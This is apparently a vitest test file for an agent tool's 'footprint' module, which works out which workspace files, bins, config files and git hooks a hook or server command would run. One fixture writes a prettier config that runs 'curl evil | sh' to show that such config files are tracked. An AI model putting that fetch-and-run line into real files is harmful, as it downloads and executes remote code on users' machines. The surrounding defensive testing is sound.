import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { type FootprintInput, footprintOf } from '../../../source/provenance/footprint.js'

let root: string
let ws: string
let sys: string

const file = (path: string, text = 'x\n', mode = 0o644) => {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, text)
  chmodSync(path, mode)
  return path
}
const exe = (path: string, text = '#!/bin/sh\n') => file(path, text, 0o755)

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'agent-tui-footprint-')))
  ws = join(root, 'ws')
  sys = join(root, 'usr', 'bin')
  mkdirSync(ws)
  for (const name of ['npx', 'node', 'python3', 'bash', 'git', 'jq', 'prettier', 'npm', 'make', 'yarn'])
    exe(join(sys, name))
})
afterEach(() => rmSync(root, { recursive: true, force: true }))

const of = (command: FootprintInput['command'], extra: Partial<FootprintInput> = {}) =>
  footprintOf({ command, cwd: ws, env: { PATH: sys, HOME: root }, home: root, roots: [ws], ...extra })
const rel = (paths: readonly string[]) => paths.map((p) => p.slice(ws.length + 1)).sort()

/** A package installed the way npm does: the package folder and a link in node_modules/.bin. */
function installPrettier(at = ws) {
  exe(join(at, 'node_modules', 'prettier', 'bin', 'prettier.cjs'), '#!/usr/bin/env node\n')
  file(join(at, 'node_modules', 'prettier', 'index.cjs'))
  mkdirSync(join(at, 'node_modules', '.bin'), { recursive: true })
  symlinkSync('../prettier/bin/prettier.cjs', join(at, 'node_modules', '.bin', 'prettier'))
}

describe('what a hook or server would run from the workspace', () => {
  it('npx prettier: the bin in node_modules/.bin, its package, and what npm reads', () => {
    installPrettier()
    file(join(ws, 'package.json'), '{}')
    file(join(ws, '.npmrc'), 'x=1\n')
    const fp = of({ script: 'npx prettier --write "$(jq -r .tool_input.file_path)"' })
    expect(fp.unbounded).toBeUndefined()
    expect(rel(fp.trees)).toEqual(['node_modules/prettier'])
    expect(rel(fp.paths)).toEqual(
      expect.arrayContaining([
        'node_modules/.bin/prettier',
        'node_modules/.bin',
        'node_modules',
        'node_modules/prettier/bin/prettier.cjs',
        'package.json',
        '.npmrc',
      ]),
    )
  })

  it('npx prettier with prettier installed outside the workspace: the config files it loads code from', () => {
    file(join(ws, 'prettier.config.cjs'), 'require("child_process").exec("curl evil | sh")\n')
    file(join(ws, 'src', '.prettierrc.mjs'))
    const fp = of({ script: 'npx prettier --write src/a.ts' }, { related: [join(ws, 'src', 'a.ts')] })
    expect(rel(fp.paths)).toEqual(expect.arrayContaining(['prettier.config.cjs', 'src/.prettierrc.mjs']))
  })

  it('npx -y @scope/server: the package if it is installed here, in the folder or any above', () => {
    const sub = join(ws, 'sub')
    mkdirSync(sub)
    file(join(ws, 'node_modules', '@scope', 'server', 'package.json'), '{"bin":"x.js"}')
    const fp = of({ argv: ['npx', '-y', '@scope/server@1.2.3'] }, { cwd: sub })
    expect(rel(fp.trees)).toEqual(['node_modules/@scope/server'])
  })

  it('pnpm exec, yarn <bin>, bunx: the same lookup', () => {
    installPrettier()
    for (const script of ['pnpm exec prettier x', 'yarn prettier x', 'yarn dlx prettier', 'bunx prettier']) {
      exe(join(sys, script.split(' ')[0]!))
      expect(rel(of({ script }).trees), script).toEqual(['node_modules/prettier'])
    }
  })

  it('a bin that runs `#!/usr/bin/env node` with a workspace folder on PATH: that node too', () => {
    exe(join(ws, 'bin', 'node'))
    exe(join(sys, 'tool'), '#!/usr/bin/env node\n')
    const fp = of({ script: 'tool --check' }, { env: { PATH: `${join(ws, 'bin')}:${sys}` } })
    expect(rel(fp.paths)).toContain('bin/node')
  })

  it('a PATH entry inside the workspace, relative or empty: the program found there', () => {
    exe(join(ws, 'bin', 'jq'))
    for (const PATH of [`${join(ws, 'bin')}:${sys}`, `bin:${sys}`]) {
      expect(rel(of({ script: 'jq .' }, { env: { PATH } }).paths), PATH).toContain('bin/jq')
    }
    exe(join(ws, 'jq'))
    expect(rel(of({ script: 'jq .' }, { env: { PATH: `:${sys}` } }).paths)).toContain('jq')
  })

  it('scripts: ./hook.sh, node ./scripts/x.js, python tool.py, bash -c, $CLAUDE_PROJECT_DIR', () => {
    exe(join(ws, 'hook.sh'))
    file(join(ws, 'scripts', 'x.js'))
    file(join(ws, 'scripts', 'lib.js'))
    file(join(ws, 'tools', 'tool.py'))
    exe(join(ws, '.agent-tui', 'hooks', 'guard.sh'))
    expect(rel(of({ script: './hook.sh' }).paths)).toEqual(['hook.sh'])
    expect(rel(of({ script: 'node ./scripts/x.js --fix' }).trees)).toEqual(['scripts'])
    expect(rel(of({ script: 'python3 -u tools/tool.py' }).trees)).toEqual(['tools'])
    expect(rel(of({ script: "bash -c 'cd scripts && node x.js'" }).trees)).toEqual(['scripts'])
    const guard = of(
      { script: '$CLAUDE_PROJECT_DIR/.agent-tui/hooks/guard.sh' },
      { env: { PATH: sys, CLAUDE_PROJECT_DIR: ws } },
    )
    expect(guard.unbounded).toBeUndefined()
    expect(rel(guard.trees)).toEqual(['.agent-tui/hooks'])
    // A server started through a shell: its script is read too.
    expect(rel(of({ argv: ['bash', '-c', 'exec node scripts/x.js'] }).trees)).toEqual(['scripts'])
  })

  it('inline code, a module, stdin, a project script or an unknown program: the whole workspace', () => {
    file(join(ws, 'package.json'), '{"scripts":{"test":"vitest"}}')
    for (const script of [
      'node -e "require(\'./x\')"',
      'python3 -m tool',
      'bash',
      'npm test',
      'npm run lint',
      'make fmt',
      '$FORMATTER x.ts',
      'eval "$CMD"',
    ]) {
      const fp = of({ script })
      expect(fp.unbounded, script).toBeDefined()
      expect(fp.trees, script).toEqual([ws])
    }
  })

  it('git: the repository’s config and hooks, also of a repository the model made', () => {
    mkdirSync(join(ws, 'sub', '.git', 'hooks'), { recursive: true })
    file(join(ws, 'sub', '.git', 'config'))
    const fp = of({ script: 'git log -1 --oneline' }, { cwd: join(ws, 'sub') })
    expect(rel(fp.trees)).toEqual(['sub/.git/hooks'])
    expect(rel(fp.paths)).toEqual(expect.arrayContaining(['sub/.git', 'sub/.git/config']))
  })

  it('any other program: the config files tools load code from, beside the edited file and above', () => {
    file(join(ws, 'prettier.config.cjs'))
    file(join(ws, 'src', 'web', '.prettierrc.js'))
    file(join(ws, 'src', 'web', 'a.ts'))
    file(join(ws, 'README.md'))
    const fp = of({ script: 'prettier --write src/web/a.ts' }, { related: [join(ws, 'src', 'web', 'a.ts')] })
    expect(rel(fp.paths)).toEqual(expect.arrayContaining(['prettier.config.cjs', 'src/web/.prettierrc.js']))
    expect(rel(fp.paths)).not.toContain('README.md')
    expect(rel(fp.paths)).not.toContain('src/web/a.ts')
    // jq, echo, notify-send… read no project code.
    expect(of({ script: 'jq -r .x | xargs echo' }).paths).toEqual([])
  })

  it('programs and files outside the folders unasked commands can write do not count', () => {
    expect(of({ script: 'npx prettier x && git status && node /opt/x.js' }).paths).toEqual([])
  })
})
